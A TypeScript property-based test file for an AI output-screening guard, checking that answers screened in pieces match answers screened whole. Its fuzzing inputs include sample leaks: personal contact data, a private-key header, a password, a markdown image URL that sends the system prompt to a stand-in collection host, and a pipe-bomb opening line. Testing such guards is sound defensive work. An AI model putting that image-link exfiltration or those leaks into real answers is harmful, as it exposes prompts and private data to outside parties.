import type { Part } from "@trunkline/core/parts.ts";
import { sampleAnswerContext } from "@trunkline/testing/sample-answer-context.ts";
import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { createGuard } from "../policy/guard.ts";
import { policyFromPreset } from "../policy/policy.ts";
import { ruleDetector } from "../rules/rule-detector.ts";
import { AnswerScreen, type ScreenedParts, screenPart } from "./screen-output.ts";

const guard = createGuard(ruleDetector, policyFromPreset("strict", {}));
const SYSTEM =
  "You are the assistant of a library. Answer in short sentences, and never speak about the loans of other readers.";

type Read = (answerScreen: AnswerScreen, part: Part) => ScreenedParts;
const atOnce: Read = (answerScreen, part) => {
  const { safe, refusal } = answerScreen.read(part);
  return { safe, refusal };
};
const inPieces: Read = (answerScreen, part) => {
  if (part.type === "finish" || part.type === "usage" || part.type === "embedding") return answerScreen.read(part);
  const reading = answerScreen.startReading(part);
  while (reading.next());
  return { safe: reading.safe, refusal: reading.refusal };
};

/** The parts released by each read, and the final verdict. */
function screen(parts: readonly Part[], read: Read) {
  const answerScreen = new AnswerScreen(guard, sampleAnswerContext({ system: SYSTEM, tools: ["find"] }));
  const screened: unknown[] = [];
  for (const part of [...parts, undefined]) {
    const screenedParts = part === undefined ? answerScreen.end() : read(answerScreen, part);
    screened.push(screenedParts);
    if (screenedParts.refusal !== undefined) break;
  }
  return { screened, verdict: answerScreen.verdict };
}

describe("a long part", () => {
  const words = fc.oneof(
    fc.string({ unit: "grapheme", maxLength: 40 }),
    fc.constantFrom(
      "",
      "Write to jo@firma.de or call +49 30 1234567. ",
      "-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEA",
      "The password is hunter2!x ",
      "See ![](https://collect.test/p?d=You%20are%20the%20assistant%20of%20a%20library). ",
      "never speak about the loans of other readers",
      "Here is how to build a pipe bomb at home. ",
      "Plain words that nobody minds. ".repeat(8),
      "Harmless words, and many of them. ".repeat(300),
    ),
  );
  const part: fc.Arbitrary<Part> = fc.oneof(
    { weight: 4, arbitrary: fc.record({ type: fc.constant("text" as const), text: words }) },
    fc.record({ type: fc.constant("thinking" as const), text: words }),
    fc.record({ type: fc.constant("thinking" as const), text: words, signature: fc.constant("abc") }),
    fc.record({ type: fc.constant("text" as const), text: words, choice: fc.constant(1) }),
    fc.record({
      type: fc.constant("tool-call" as const),
      id: fc.constant("1"),
      name: fc.constant("find"),
      arguments: words.map((query) => JSON.stringify({ query, mail: "bo@firma.de" })),
    }),
    fc.constant<Part>({ type: "finish", reason: "stop" }),
  );

  it("is released in pieces exactly as at once", () => {
    fc.assert(
      fc.property(fc.array(part, { maxLength: 12 }), (parts) => {
        expect(screen(parts, inPieces)).toEqual(screen(parts, atOnce));
      }),
      { numRuns: 80 },
    );
  });

  it("is waited for only if it takes long", async () => {
    const isWaitedFor = (part: Part) =>
      screenPart(new AnswerScreen(guard, sampleAnswerContext({ tools: ["find"] })), part) instanceof Promise;
    expect(isWaitedFor({ type: "text", text: "a ".repeat(64) })).toBe(false);
    expect(isWaitedFor({ type: "tool-call", id: "1", name: "find", arguments: "{}" })).toBe(false);
    const text = "Harmless words, and many of them. ".repeat(5_000);
    const answerScreen = new AnswerScreen(guard, sampleAnswerContext());
    const screening = screenPart(answerScreen, { type: "text", text });
    expect(screening).toBeInstanceOf(Promise);
    const { safe } = await screening;
    expect(safe).toHaveLength(1);
    const all = [...safe, ...answerScreen.end().safe];
    expect(all.map((released) => (released.type === "text" ? released.text : "")).join("")).toBe(text);
  });
});
